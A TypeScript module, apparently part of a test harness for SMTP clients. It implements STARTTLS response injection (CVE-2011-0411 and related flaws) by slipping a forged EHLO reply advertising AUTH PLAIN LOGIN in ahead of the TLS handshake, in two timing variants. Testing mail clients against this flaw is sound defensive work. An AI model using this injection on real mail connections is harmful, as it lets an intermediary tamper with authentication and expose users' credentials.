/**
 * Puts words of its own behind the 220 to STARTTLS, in clear, and lets the handshake go through untouched: a sender that keeps what
 * it has read across the handshake takes them for the server's first words inside TLS (CVE-2011-0411 and its kin of 2021).
 */
import { meddling } from "./middle.ts";
import { attacker } from "./types.ts";

/** A second EHLO reply: whatever the server can do, the sender is to believe that it can do this. */
export const injectedReply = "250-mx.attacker.example\r\n250 AUTH PLAIN LOGIN\r\n";

export const injectResponse = attacker("inject-response", {
  "same-write": meddling({
    startTls(passage, agreement) {
      passage.strike();
      passage.client.write(agreement + injectedReply, "latin1");
      passage.passThrough();
    },
  }),
  // May arrive apart from the 220, when the sender has begun the handshake already.
  "next-write": meddling({
    startTls(passage, agreement) {
      passage.strike();
      passage.client.write(agreement, "latin1", () => passage.client.write(injectedReply, "latin1"));
      passage.passThrough();
    },
  }),
});
